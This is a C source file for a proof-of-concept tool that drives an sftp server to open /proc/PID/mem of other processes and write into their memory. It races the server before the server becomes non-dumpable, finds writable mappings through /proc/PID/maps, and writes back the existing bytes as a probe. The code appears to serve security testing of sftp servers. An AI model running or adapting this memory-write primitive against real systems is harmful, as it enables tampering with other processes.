/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * sftp_mem.c - one sftp channel against another of the same connection: writes
 * the memory of a process of the account by SFTP OPEN and WRITE alone.
 *
 *   sftp_mem SECONDS COMMAND...
 *
 * COMMAND starts an sftp server of the account on standard input and output.
 * With SECONDS 0 it looks once for any process that waits.  Otherwise it starts
 * COMMAND again and again for that time and races with it: the memory of an sftp
 * server can be written until the server makes itself non-dumpable.  It stops at the
 * first byte written, in a page that the process may write itself, and writes the
 * value that was there.
 *
 * It prints "tries=N opened=N written=N".  Status: 0 nothing was opened, 1 something
 * was, 2 the attack did not run.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum {
	INIT = 1, VERSION = 2, OPEN = 3, CLOSE = 4, READ = 5, WRITE = 6,
	READLINK = 19, STATUS = 101, HANDLE = 102, DATA = 103, NAME = 104
};
enum { FOR_READING = 1, FOR_WRITING = 2 };
enum { AHEAD = 6, BEHIND = 64, MOST = 40000 };

static int to, from;
static unsigned long tries, opened, written;

static unsigned char out[MOST];
static size_t nout;
static char in[MOST];
static size_t nin;		/* of the answer, with its type */

static void
die(const char *what)
{
	printf("tries=%lu opened=%lu written=%lu\n", tries, opened, written);
	fprintf(stderr, "sftp_mem: %s: %s\n", what, strerror(errno));
	exit(2);
}

static void
number(uint32_t v)
{
	for (int i = 24; i >= 0; i -= 8)
		out[nout++] = (unsigned char)(v >> i);
}

static void
bytes(const void *p, size_t n)
{
	number((uint32_t)n);
	memcpy(out + nout, p, n);
	nout += n;
}

static uint32_t
get(const char *p)
{
	const unsigned char *u = (const unsigned char *)p;

	return (uint32_t)u[0] << 24 | (uint32_t)u[1] << 16 |
	    (uint32_t)u[2] << 8 | u[3];
}

/* Appends a request to `out`; its length is filled in at its start. */
static size_t
begin(int type)
{
	size_t at = nout;

	number(0);
	out[nout++] = (unsigned char)type;
	return at;
}

static void
end(size_t at)
{
	size_t all = nout;

	nout = at;
	number((uint32_t)(all - at - 4));
	nout = all;
}

static void
flush(void)
{
	if (write(to, out, nout) != (ssize_t)nout)
		die("write to the server");
	nout = 0;
}

static void
take(char *p, size_t n)
{
	while (n > 0) {
		ssize_t got = read(from, p, n);

		if (got <= 0)
			die("read from the server");
		p += got;
		n -= (size_t)got;
	}
}

/* The next answer: its type. */
static int
answer(void)
{
	char len[4];

	take(len, 4);
	nin = get(len);
	if (nin < 5 || nin >= sizeof(in))
		die("an answer's length");
	take(in, nin);
	in[nin] = '\0';
	return (unsigned char)in[0];
}

static void
ask_open(const char *path, uint32_t how)
{
	size_t at = begin(OPEN);

	number(0);
	bytes(path, strlen(path));
	number(how);
	number(0);
	end(at);
}

struct handle {
	char v[256];
	size_t n;		/* 0: none */
};

static struct handle
opened_as(void)
{
	struct handle h = { .n = 0 };

	if (answer() == HANDLE && (h.n = get(in + 5)) <= sizeof(h.v))
		memcpy(h.v, in + 9, h.n);
	return h;
}

/* The number of bytes read; they are at in + 9. */
static size_t
get_at(const struct handle *h, uint64_t where, uint32_t n)
{
	size_t at = begin(READ);

	number(0);
	bytes(h->v, h->n);
	number((uint32_t)(where >> 32));
	number((uint32_t)where);
	number(n);
	end(at);
	flush();
	return answer() == DATA ? get(in + 5) : 0;
}

static int
put_at(const struct handle *h, uint64_t where, const char *p, size_t n)
{
	size_t at = begin(WRITE);

	number(0);
	bytes(h->v, h->n);
	number((uint32_t)(where >> 32));
	number((uint32_t)where);
	bytes(p, n);
	end(at);
	flush();
	return answer() == STATUS && get(in + 5) == 0;
}

static void
drop(const struct handle *h)
{
	size_t at;

	if (h->n == 0)
		return;
	at = begin(CLOSE);
	number(0);
	bytes(h->v, h->n);
	end(at);
	flush();
	answer();
}

/* The start of the first mapping that its process may write to, or 0. */
static uint64_t
writable(const struct handle *maps)
{
	size_t n = get_at(maps, 0, 8192);
	char *line = in + 9;

	in[9 + n] = '\0';
	for (char *next; line != NULL && *line != '\0'; line = next) {
		next = strchr(line, '\n');
		if (next != NULL)
			*next++ = '\0';
		if (strstr(line, " rw-p ") != NULL)
			return strtoull(line, NULL, 16);
	}
	return 0;
}

static void
use(const struct handle *mem, const struct handle *maps)
{
	uint64_t where;
	char was[8];

	opened++;
	where = maps->n > 0 ? writable(maps) : 0;
	if (where == 0 || get_at(mem, where, sizeof(was)) != sizeof(was))
		return;
	memcpy(was, in + 9, sizeof(was));
	written += (unsigned long)put_at(mem, where, was, sizeof(was));
}

/* Tries both files of each process from `first` on, but not of the server. */
static void
sweep(long first, long count, long self)
{
	char path[64];

	for (long pid = first; pid < first + count; pid++) {
		struct handle mem, maps;

		if (pid <= 0 || pid == self)
			continue;
		snprintf(path, sizeof(path), "/proc/%ld/mem", pid);
		ask_open(path, FOR_READING | FOR_WRITING);
		snprintf(path, sizeof(path), "/proc/%ld/maps", pid);
		ask_open(path, FOR_READING);
		flush();
		tries++;
		mem = opened_as();
		maps = opened_as();
		if (mem.n > 0)
			use(&mem, &maps);
		drop(&mem);
		drop(&maps);
	}
}

/* Starts a server on two pipes, or one whose input is at its end. */
static pid_t
start(char **command, int talk)
{
	int there[2] = { -1, -1 }, back[2] = { -1, -1 };
	pid_t pid;

	if (talk && (pipe2(there, O_CLOEXEC) < 0 ||
	    pipe2(back, O_CLOEXEC) < 0))
		die("pipe");
	pid = fork();
	if (pid == 0) {
		int null = open("/dev/null", O_RDWR);

		dup2(talk ? there[0] : null, 0);
		dup2(talk ? back[1] : null, 1);
		execvp(command[0], command);
		_exit(127);
	}
	if (pid < 0)
		die("fork");
	if (talk) {
		close(there[0]);
		close(back[1]);
		to = there[1];
		from = back[0];
	}
	return pid;
}

static long
hello(void)
{
	size_t at = begin(INIT);

	number(3);
	end(at);
	flush();
	if (answer() != VERSION)
		die("no version");
	at = begin(READLINK);
	number(0);
	bytes("/proc/self", 10);
	end(at);
	flush();
	if (answer() != NAME)
		die("no /proc/self");
	return strtol(in + 13, NULL, 10);
}

int
main(int argc, char **argv)
{
	long seconds = argc > 2 ? strtol(argv[1], NULL, 10) : -1;
	time_t until;
	long self;

	if (seconds < 0) {
		fprintf(stderr, "usage: sftp_mem SECONDS COMMAND...\n");
		return 2;
	}
	start(argv + 2, 1);
	self = hello();
	if (seconds == 0)
		sweep(self - BEHIND, 2 * BEHIND, self);
	for (until = time(NULL) + seconds; written == 0 &&
	    time(NULL) < until; ) {
		pid_t other = start(argv + 2, 0);

		while (written == 0 && waitpid(other, NULL, WNOHANG) == 0)
			sweep(other, AHEAD, self);
		if (written > 0)
			waitpid(other, NULL, 0);
	}
	printf("tries=%lu opened=%lu written=%lu\n", tries, opened, written);
	return opened > 0;
}
